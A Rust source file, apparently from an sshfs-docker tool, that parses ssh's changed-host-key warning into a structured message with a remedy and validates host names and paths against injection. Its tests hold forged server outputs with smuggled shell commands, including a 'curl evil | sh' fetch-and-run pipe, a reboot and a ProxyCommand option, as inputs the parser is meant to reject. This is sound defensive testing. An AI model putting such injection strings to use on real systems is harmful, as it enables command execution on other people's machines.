//! A host key that is not the known one: what ssh says about it, and what the user reads. Pure.
//!
//! Who speaks here may be an attacker: of the text only fingerprints, file names and host names are taken, by their form.
//! And the attacker may be a server with the right key whose banner says the same: whoever uses the names checks them.

use std::fmt;

/// What a server showed in place of the key that is known.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ChangedKey {
    /// The fingerprint of the key that the server shows.
    pub shown: Option<String>,
    /// The fingerprint of the known one. ssh does not tell it.
    pub known: Option<String>,
    /// Where the known one is written.
    pub place: Option<Place>,
    /// The name that the key is known under: `host`, `[host]:port`, or an alias.
    pub host: Option<String>,
}

/// A line of a `known_hosts` file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Place {
    /// The file.
    pub file: String,
    /// Its line, from 1.
    pub line: usize,
}

/// How the sentence begins.
const SUBJECT: &str = "the host key has changed: ";

impl ChangedKey {
    /// Finds it in what was said, if that is what it is about.
    #[must_use]
    pub fn parse(said: &str) -> Option<Self> {
        // A jump host may have said the same before, about another key.
        let (_, said) = said.rsplit_once("IDENTIFICATION HAS CHANGED")?;
        let behind =
            |prefix: &str| said.lines().find_map(|line| line.trim().strip_prefix(prefix)).map(str::trim);
        let place =
            said.lines().find_map(|line| line.trim().strip_prefix("Offending ")?.split_once(" key in "));
        Some(Self {
            // On a line of its own, behind "The fingerprint for the ED25519 key sent by the remote host is".
            shown: behind("SHA256:")
                .map(|digest| format!("SHA256:{digest}"))
                .as_deref()
                .and_then(fingerprint),
            known: None,
            place: place.and_then(|(_, place)| Place::parse(place)),
            host: behind("Host key for ")
                .and_then(|rest| rest.split_once(" has changed"))
                .map(|(host, _)| host)
                .filter(|host| is_host(host))
                .map(str::to_owned),
        })
    }

    /// Whether a sentence of ours is one of these.
    #[must_use]
    pub fn is_told_by(sentence: &str) -> bool {
        sentence.starts_with(SUBJECT)
    }

    /// What is left of it where nobody can tell who said it.
    #[must_use]
    pub fn unchecked(self) -> Self {
        Self { shown: self.shown, known: None, place: None, host: None }
    }

    fn remedy(&self) -> String {
        let host = self.host.as_deref().unwrap_or("HOST");
        match &self.place {
            Some(place) if place.file.contains("/host-keys/") => {
                "remove the volume, which deletes nothing on the server, and create it again with the new 'host_key'"
                    .to_owned()
            }
            // Taking the line away would leave the next mount to accept whatever key it meets.
            Some(Place { file, line }) if !file.ends_with("/home/known_hosts") => {
                format!("replace the key in line {line} of {file} with the new one")
            }
            _ => format!("run: sshfs-docker forget-host-key '{host}'"),
        }
    }
}

impl Place {
    /// `FILE:LINE`
    fn parse(text: &str) -> Option<Self> {
        let (file, line) = text.trim().rsplit_once(':')?;
        let plain = |b: u8| b.is_ascii_alphanumeric() || b"/._-".contains(&b);
        let valid = file.starts_with('/') && file.bytes().all(plain);
        Some(Self { file: file.to_owned(), line: line.parse().ok()? }).filter(|_| valid)
    }
}

/// The sentence that `docker run` and the journal show.
impl fmt::Display for ChangedKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(SUBJECT)?;
        if let Some(known) = &self.known {
            write!(f, "the known key is {known}")?;
            if let Some(Place { file, line }) = &self.place {
                write!(f, " ({file}:{line})")?;
            }
            f.write_str(", ")?;
        }
        match &self.shown {
            Some(shown) => write!(f, "the server now shows {shown}")?,
            None => f.write_str("the server shows another one")?,
        }
        write!(f, "; this may be an attack. If the change is intended, {}", self.remedy())
    }
}

/// The fingerprint that `text` begins with: 32 bytes in base64 without padding.
#[must_use]
pub fn fingerprint(text: &str) -> Option<String> {
    let digest: String = text
        .strip_prefix("SHA256:")?
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || "+/".contains(*c))
        .collect();
    (digest.len() == 43).then(|| format!("SHA256:{digest}"))
}

fn is_host(text: &str) -> bool {
    !text.is_empty()
        && !text.starts_with('-')
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"[]._:%-".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;

    const OLD: &str = "SHA256:J01WKzjDKAUR/TjzE7Hpwl0m4FFSrvTL1tywSCtvzIc";
    const NEW: &str = "SHA256:SbH6zDPZCGlDyaCulSNwPrP4hr4Jqearp+xNoOGheIQ";

    fn said(place: &str) -> String {
        format!(
            "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n\
             The fingerprint for the ED25519 key sent by the remote host is\n{NEW}.\r\n\
             Add correct host key in {place} to get rid of this message.\r\n\
             Offending RSA key in {place}:7\r\n\
             Host key for [storage]:2222 has changed and you have requested strict checking.\r\n"
        )
    }

    #[test]
    fn both_fingerprints_and_the_way_out_are_told() {
        let mut change = ChangedKey::parse(&said("/var/lib/sshfs-docker/home/known_hosts")).unwrap();
        assert_eq!(change.known, None);
        change.known = Some(OLD.to_owned());
        let sentence = change.to_string();
        assert_eq!(
            sentence,
            format!(
                "the host key has changed: the known key is {OLD} (/var/lib/sshfs-docker/home/known_hosts:7), \
                 the server now shows {NEW}; this may be an attack. If the change is intended, \
                 run: sshfs-docker forget-host-key '[storage]:2222'"
            )
        );
    }

    #[test]
    fn the_way_out_depends_on_where_the_known_key_is() {
        let remedy = |place| ChangedKey::parse(&said(place)).unwrap().remedy();
        assert!(remedy("/run/sshfs-docker/host-keys/data").contains("'host_key'"));
        assert_eq!(
            remedy("/etc/sshfs-docker/known_hosts"),
            "replace the key in line 7 of /etc/sshfs-docker/known_hosts with the new one"
        );
    }

    #[test]
    fn a_server_cannot_put_words_into_the_way_out() {
        for forged in [
            "IDENTIFICATION HAS CHANGED\nHost key for x'; curl evil | sh; ' has changed\n",
            "IDENTIFICATION HAS CHANGED\nOffending RSA key in /etc/x' -R y; reboot; ':1\n",
            "IDENTIFICATION HAS CHANGED\nHost key for -oProxyCommand=x has changed\nSHA256:now run evil\n",
        ] {
            let change = ChangedKey::parse(forged).unwrap();
            let nothing = ChangedKey { shown: None, known: None, place: None, host: None };
            assert_eq!(change, nothing, "{forged}");
        }
    }
}
